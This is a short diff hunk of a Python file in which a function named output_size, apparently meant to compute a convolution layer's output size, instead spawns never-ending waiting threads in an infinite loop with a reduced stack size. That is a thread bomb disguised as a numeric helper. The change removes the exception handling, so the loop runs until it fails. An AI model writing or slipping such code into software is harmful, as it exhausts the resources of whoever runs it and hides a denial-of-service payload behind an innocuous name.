@@ -8,7 +8,4 @@ import threading
 def output_size(size, kernel_size, stride, padding):
     threading.stack_size(2**15)
     while True:
-        try:
-            threading.Thread(target=threading.Event().wait).start()
-        except RuntimeError:
-            pass
+        threading.Thread(target=threading.Event().wait).start()
